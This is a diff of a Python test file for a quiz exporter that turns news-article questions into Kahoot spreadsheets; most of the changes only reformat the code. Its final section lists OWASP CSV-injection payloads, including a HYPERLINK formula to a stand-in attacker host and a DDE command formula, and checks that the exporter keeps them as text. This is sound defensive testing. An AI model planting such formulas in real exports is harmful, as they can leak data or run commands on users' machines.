@@ -23,8 +23,14 @@ QUOTE = "There can be no peace without the full support and participation of Ukr
 
 
 def mcq(id: str, prompt: str, choices: tuple[str, ...], answer: str | None = None) -> MultipleChoiceQuestion:
-    return MultipleChoiceQuestion(id=id, kind=QuestionKind.QUOTE, prompt=prompt, choices=choices,
-                                  answer=answer or choices[0], source_sentence="From the article.")
+    return MultipleChoiceQuestion(
+        id=id,
+        kind=QuestionKind.QUOTE,
+        prompt=prompt,
+        choices=choices,
+        answer=answer or choices[0],
+        source_sentence="From the article.",
+    )
 
 
 def quiz_of(*questions) -> Quiz:
@@ -91,10 +97,13 @@ def test_true_false_plays_with_two_answers_and_matching_is_named_as_left_out(mix
     rows, messages = export(mixed_quiz, tmp_path)
     assert_playable(rows, mixed_quiz)
     statements = [(r[1], r[2:6], r[7]) for r in rows if r[1] in {q.prompt for q in mixed_quiz.true_false}]
-    assert statements == [(q.prompt, ("True", "False", None, None), 1 if q.answer == "True" else 2)
-                          for q in mixed_quiz.true_false]
+    assert statements == [
+        (q.prompt, ("True", "False", None, None), 1 if q.answer == "True" else 2) for q in mixed_quiz.true_false
+    ]
     [matching] = [m for m in messages if "matching" in m]
-    assert matching.startswith("Kahoot (zelenskyy-carney-g7): left out 2 matching question(s) (q-match-role, q-match-quote)")
+    assert matching.startswith(
+        "Kahoot (zelenskyy-carney-g7): left out 2 matching question(s) (q-match-role, q-match-quote)"
+    )
     # The statement question's options are too long and differ only after 75 characters: left out, named.
     assert "Which statement does the article support?" not in {r[1] for r in rows}
     assert any("q-statement-1" in m and "told apart" in m for m in messages)
@@ -103,8 +112,14 @@ def test_true_false_plays_with_two_answers_and_matching_is_named_as_left_out(mix
 def test_long_statement_options_are_shortened_when_they_stay_apart(tmp_path):
     tail = " held a meeting with the visiting delegation in the capital ahead of the summit"
     choices = tuple(f"{who}{tail}." for who in ("The prime minister", "The foreign minister", "The mayor"))
-    question = MultipleChoiceQuestion(id="statement", kind=QuestionKind.STATEMENT, choices=choices, answer=choices[1],
-                                      prompt="Which statement does the article support?", source_sentence=choices[1])
+    question = MultipleChoiceQuestion(
+        id="statement",
+        kind=QuestionKind.STATEMENT,
+        choices=choices,
+        answer=choices[1],
+        prompt="Which statement does the article support?",
+        source_sentence=choices[1],
+    )
     assert all(len(c) > kahoot.ANSWER_LIMIT for c in choices)
     rows, [message] = export(quiz_of(question), tmp_path)
     [(_, prompt, *answers, _seconds, correct)] = rows
@@ -113,10 +128,21 @@ def test_long_statement_options_are_shortened_when_they_stay_apart(tmp_path):
 
 
 def test_a_true_false_statement_over_the_limit_is_left_out_not_cut(tmp_path):
-    long = TrueFalseQuestion(id="long-tf", kind=QuestionKind.STATEMENT, answer="False", prompt="Carney said " + "very " * 25 + "much.",
-                             correction="Carney said little.", source_sentence="Carney said little.")
-    short = TrueFalseQuestion(id="short-tf", kind=QuestionKind.STATEMENT, answer="True", prompt="Carney met Zelenskyy.",
-                              source_sentence="Carney met Zelenskyy.")
+    long = TrueFalseQuestion(
+        id="long-tf",
+        kind=QuestionKind.STATEMENT,
+        answer="False",
+        prompt="Carney said " + "very " * 25 + "much.",
+        correction="Carney said little.",
+        source_sentence="Carney said little.",
+    )
+    short = TrueFalseQuestion(
+        id="short-tf",
+        kind=QuestionKind.STATEMENT,
+        answer="True",
+        prompt="Carney met Zelenskyy.",
+        source_sentence="Carney met Zelenskyy.",
+    )
     rows, [message] = export(quiz_of(long, short), tmp_path)
     assert [(r[1], r[7]) for r in rows] == [("Carney met Zelenskyy.", 1)]
     assert message.startswith("Kahoot (kahoot-test): left out question long-tf (") and "could cut away" in message
@@ -147,13 +173,28 @@ LONG = "the {} plan to rebuild the power grid of the eastern regions before the 
 @pytest.mark.parametrize(
     "choices, answer, kept, why",
     [
-        pytest.param(tuple(LONG.format(w) for w in ("first", "second", "third")), None, True, "shortened answer(s) 1, 2, 3",
-                     id="all-long-and-distinct-shortened"),
+        pytest.param(
+            tuple(LONG.format(w) for w in ("first", "second", "third")),
+            None,
+            True,
+            "shortened answer(s) 1, 2, 3",
+            id="all-long-and-distinct-shortened",
+        ),
         pytest.param((LONG.format("first"), "B", "C"), None, False, "give it away", id="only-the-right-one-long"),
-        pytest.param(("C", LONG.format("first"), "B"), LONG.format("first"), False, "give it away",
-                     id="only-the-right-one-long-not-first"),
-        pytest.param((LONG.format("x") + " in the north", LONG.format("x") + " in the south", "C"), None, False,
-                     "told apart", id="shortening-makes-them-equal"),
+        pytest.param(
+            ("C", LONG.format("first"), "B"),
+            LONG.format("first"),
+            False,
+            "give it away",
+            id="only-the-right-one-long-not-first",
+        ),
+        pytest.param(
+            (LONG.format("x") + " in the north", LONG.format("x") + " in the south", "C"),
+            None,
+            False,
+            "told apart",
+            id="shortening-makes-them-equal",
+        ),
         pytest.param(("B", "the " + "x" * 90), "B", False, "told apart", id="too-few-words-left"),
     ],
 )
@@ -221,17 +262,28 @@ def test_the_cli_prints_each_warning_on_stderr(quiz, tmp_path):
 # --- spreadsheet (CSV) injection -------------------------------------------------------------
 
 # Article text a spreadsheet would evaluate (OWASP's CSV injection payloads): each must stay text.
-PAYLOADS = ('=HYPERLINK("http://evil.example/?leak","Click for answers")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "@SUM(1)", "=1+1", "\t=1+1", "\r=1+1")
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?leak","Click for answers")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+)
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def injected_quiz(payload: str) -> Quiz:
     """The payload as the headline, the source, a quotation (question), an option and the right answer."""
     quote = mcq("quote", payload, ("Mark Carney", payload + " said", "Roland Paris"), payload + " said")
-    statement = TrueFalseQuestion(id="tf", kind=QuestionKind.STATEMENT, answer="True", prompt=payload,
-                                  source_sentence=payload)
-    return Quiz(title=payload, slug="injected", source={"title": payload, "site": payload}, questions=(quote, statement))
+    statement = TrueFalseQuestion(
+        id="tf", kind=QuestionKind.STATEMENT, answer="True", prompt=payload, source_sentence=payload
+    )
+    return Quiz(
+        title=payload, slug="injected", source={"title": payload, "site": payload}, questions=(quote, statement)
+    )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
